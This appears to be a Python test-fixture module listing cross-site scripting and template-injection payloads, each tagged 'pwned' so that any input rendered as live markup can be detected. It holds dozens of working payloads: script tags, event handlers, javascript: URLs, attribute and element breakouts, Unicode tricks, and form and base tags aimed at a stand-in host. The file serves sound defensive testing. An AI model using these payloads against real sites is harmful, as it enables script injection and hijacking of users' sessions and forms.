"""Words that try to become markup. Each one carries a mark, so that whatever comes alive of it is found."""

from __future__ import annotations

MARK = "pwned"
"""The name of every element, attribute value and variable that a payload would make if it were not taken as words."""

_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter")
_OPENINGS = ("", '"', "'", "`", "-->", "]]>", "</title>", "</textarea>", "</select>", "</script>", "</style>", "</svg>")

PAYLOADS: tuple[str, ...] = (
    # elements that run or load something
    "<script>pwned=1</script>",
    "<script>alert('pwned')</script>",
    "<script src=/pwned.js></script>",
    "<scr<script>ipt>pwned=1</script>",
    "<SCRIPT/x>pwned=1</SCRIPT>",
    "<img src=x id=pwned onerror=alert(1)>",
    "<img/src=x/id=pwned/onerror=alert(1)>",
    "<svg id=pwned onload=alert(1)>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><a href=javascript:alert(1) id=pwned>x</a></svg>",
    "<math><a id=pwned href=javascript:alert(1)>x",
    "<iframe id=pwned srcdoc='<script>alert(1)</script>'>",
    "<iframe id=pwned src=javascript:alert(1)>",
    "<object id=pwned data=javascript:alert(1)>",
    "<embed id=pwned src=javascript:alert(1)>",
    "<video id=pwned><source onerror=alert(1)></video>",
    "<audio id=pwned src=x onerror=alert(1)>",
    "<details id=pwned open ontoggle=alert(1)>",
    "<input id=pwned autofocus onfocus=alert(1)>",
    "<select id=pwned autofocus onfocus=alert(1)>",
    "<marquee id=pwned onstart=alert(1)>x</marquee>",
    "<body id=pwned onload=alert(1)>",
    "<base id=pwned href=//pwned.example/>",
    "<link id=pwned rel=stylesheet href=//pwned.example>",
    "<meta id=pwned http-equiv=refresh content=0;url=/>",
    "<form id=pwned action=//pwned.example><button>x",
    "<style id=pwned>*{display:none}</style>",
    "<template id=pwned><script>pwned=1</script>",
    "<a id=pwned href=javascript:alert(1)>press me</a>",
    "<a id=pwned href='data:text/html,<script>alert(1)'>x",
    "<b id=pwned style=position:fixed;inset:0>x</b>",
    "<live-section id=pwned name=board></live-section>",
    # ways out of an attribute
    '" id=pwned onmouseover=alert(1) x="',
    "' id=pwned onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) id="pwned',
    "x onpointerenter=alert(1) id=pwned",
    '"><img src=x id=pwned onerror=alert(1)>',
    "'><img src=x id=pwned onerror=alert(1)>",
    "javascript:alert('pwned')",
    "&#x22;&gt;&lt;img id=pwned src=x onerror=alert(1)&gt;",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    # ways out of an element
    *(f"{opening}<img src=x id=pwned onerror=alert(1)>" for opening in _OPENINGS[4:]),
    # templates of ours and of others
    "{{ 7*7 }}<i id=pwned>{{ config }}</i>",
    "{% for x in [1] %}<i id=pwned></i>{% endfor %}",
    "${alert('pwned')}`<i id=pwned>`",
    "{{constructor.constructor('pwned=1')()}}",
    "%(pwned)s %s %d {pwned} {0} <i id=pwned>",
    # letters that mislead
    "\u202e<img src=x id=pwned onerror=alert(1)>",
    "<\u0000img src=x id=pwned onerror=alert(1)>",
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    "<img src=x id=pwned\u00a0onerror=alert(1)>",
    "\ud7ff<svg/onload=alert(1) id=pwned>",
    *(f"<i id=pwned {handler}=alert(1)>x</i>" for handler in _HANDLERS),
)
